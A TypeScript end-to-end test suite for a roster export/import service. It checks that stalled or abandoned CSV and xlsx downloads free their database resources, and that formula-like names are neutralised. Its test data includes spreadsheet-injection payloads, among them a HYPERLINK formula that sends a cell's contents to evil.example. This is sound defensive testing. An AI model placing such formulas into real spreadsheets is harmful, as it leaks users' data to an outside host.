import type { Server } from 'node:http';
import { Readable } from 'node:stream';
import type { INestApplication } from '@nestjs/common';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { demoOrgId } from '@vanguard/infra-config';
import { tokenFor, waitUntil } from '@vanguard/testing';
import { csvLine, parseCsv } from '@vanguard/spreadsheet';
import { rosterLimits } from '../../src/roster-limits.config';
import { childCode, createOrganizationTestApp } from '../support/organization-test-app';
import {
  exportQueriesRunning,
  finishedJob,
  listen,
  MEMBER_HEADER,
  openDownload,
  poolIsIdle,
  sharedExportVillage,
  widenImportBudget,
} from '../support/roster-fixtures';

const BAIHUA = { id: demoOrgId('910425101'), code: '910425101' };
const STALL_MS = 1_500;
const FORMULA_START = /^[=+\-@\t\r]/;
/** Names a spreadsheet would run, and names that merely look like our own neutralising quote. */
const NASTY = ['=HYPERLINK("http://evil.example/?"&G2,"点我")', '+SUM(1,2)', '-1+2', '@cmd', "'=引号开头", "'普通引号", "''=两个引号"];

/**
 * Hostile downloads: a client that stops reading is cut after the stall limit and leaves no
 * query or connection behind; clients that leave mid-way likewise; formula-like names leave as
 * text in CSV and xlsx and come back unchanged through an import.
 */
describe('hostile roster downloads', () => {
  let sut: INestApplication;
  let port: number;
  let token: string;
  let big: { id: string };
  const statuses: number[] = [];
  const http = () => request(sut.getHttpServer() as Server);

  beforeAll(async () => {
    widenImportBudget();
    sut = await createOrganizationTestApp({ roster: { ...rosterLimits({}), streamStallMs: STALL_MS } });
    port = await listen(sut);
    token = await tokenFor('province.organizer');
    big = await sharedExportVillage(sut, token);
  }, 300_000);
  afterAll(async () => {
    expect(statuses.filter((s) => s >= 500)).toEqual([]);
    await sut.close();
  });
  afterEach(async () => {
    await waitUntil('no export query left in Postgres', async () => (await exportQueriesRunning(sut)) === 0);
    await waitUntil('every pool connection back and idle', () => poolIsIdle(sut));
  });

  it('cuts a download whose client stops reading once the stall limit passes', async () => {
    const held = await openDownload(port, `/exports/members?format=csv&subtreeOf=${big.id}`, token);
    statuses.push(held.status);
    expect(held.status).toBe(200);

    // We never read again; the server gives up on us by itself: its query ends while our socket is still open.
    await waitUntil(
      'the stalled export to end its query and free its connection',
      async () => (await exportQueriesRunning(sut)) === 0 && poolIsIdle(sut) && !held.response.socket.destroyed,
      { timeoutMs: STALL_MS * 10 },
    );
    // Reading on now meets the end of a cut body, not the whole file.
    const parts: Buffer[] = [held.first];
    held.response.on('data', (c: Buffer) => parts.push(c)).on('error', () => undefined);
    const closed = new Promise<void>((r) => held.response.socket.once('close', () => r()));
    held.response.resume();
    await closed;
    expect(Buffer.concat(parts).toString('utf8').split('\r\n').length).toBeLessThan(20_000);
    const ready = await http().get('/health/ready');
    statuses.push(ready.status);
    expect(ready.status).toBe(200);
  });

  it('frees everything when clients leave csv and xlsx downloads mid-way', async () => {
    for (const format of ['csv', 'xlsx', 'csv', 'xlsx'] as const) {
      const d = await waitUntil(`a ${format} download to start`, async () => {
        const o = await openDownload(port, `/exports/members?format=${format}&subtreeOf=${big.id}`, token);
        if (o.status === 429) return undefined;
        return o;
      });
      statuses.push(d.status);
      expect(d.status).toBe(200);
      await d.abort();
    }
  });

  it('exports formula-like names as text in csv and xlsx, and an import of either file brings them back unchanged', async () => {
    const created = await http()
      .post('/organizations')
      .set('Authorization', `Bearer ${token}`)
      .send({
        code: childCode(BAIHUA.code),
        name: '公式测试支部',
        level: 'village',
        kind: 'branch',
        sector: 'rural',
        parentId: BAIHUA.id,
        establishedOn: '2005-01-01',
      });
    statuses.push(created.status);
    const v = created.body as { id: string; code: string };
    const importFile = async (format: 'csv' | 'xlsx', body: string | Buffer) => {
      const res = await http()
        .post('/imports/members')
        .query({ format, dryRun: 'false' })
        .set('Authorization', `Bearer ${token}`)
        .set('Content-Type', format === 'csv' ? 'text/csv' : 'application/octet-stream')
        .send(body);
      statuses.push(res.status);
      expect(res.status).toBe(202);
      expect(await finishedJob(sut, token, (res.body as { id: string }).id)).toMatchObject({ status: 'succeeded' });
    };
    const exported = async (format: 'csv' | 'xlsx'): Promise<{ bytes: Buffer; rows: string[][] }> => {
      const res = await http()
        .get('/exports/members')
        .query({ format, subtreeOf: v.id })
        .set('Authorization', `Bearer ${token}`)
        .buffer(true)
        .parse((r, cb) => {
          const parts: Buffer[] = [];
          r.on('data', (c: Buffer) => parts.push(c));
          r.on('end', () => cb(null, Buffer.concat(parts)));
        });
      statuses.push(res.status);
      const bytes = res.body as Buffer;
      if (format === 'csv') {
        const rows: string[][] = [];
        for await (const r of parseCsv(Readable.from([bytes]))) rows.push(r);
        return { bytes, rows: rows.slice(1) };
      }
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(bytes as never);
      const rows: string[][] = [];
      book.worksheets[0]!.eachRow((row, n) => {
        if (n > 1) rows.push((row.values as unknown[]).slice(1).map((c) => (c === null || c === undefined ? '' : String(c as string))));
      });
      return { bytes, rows };
    };
    const names = async () =>
      (
        (await http().get('/members').query({ subtreeOf: v.id, limit: 200 }).set('Authorization', `Bearer ${token}`)).body as {
          items: { name: string }[];
        }
      ).items
        .map((m) => m.name)
        .sort();

    await importFile('csv', csvLine(MEMBER_HEADER) + NASTY.map((n) => csvLine([v.code, n, 'full', '2001-07-01', '', '', '', ''])).join(''));

    const csv = await exported('csv');
    const xlsx = await exported('xlsx');
    for (const cell of [...csv.rows, ...xlsx.rows].flat()) expect(cell).not.toMatch(FORMULA_START);
    expect(csv.rows.map((r) => r[1])).toEqual(xlsx.rows.map((r) => r[1]));

    // Both files go back in exactly as they came out: every name is then there three times, unchanged.
    await importFile('csv', csv.bytes);
    await importFile('xlsx', xlsx.bytes);

    expect(await names()).toEqual([...NASTY, ...NASTY, ...NASTY].sort());
  });
});
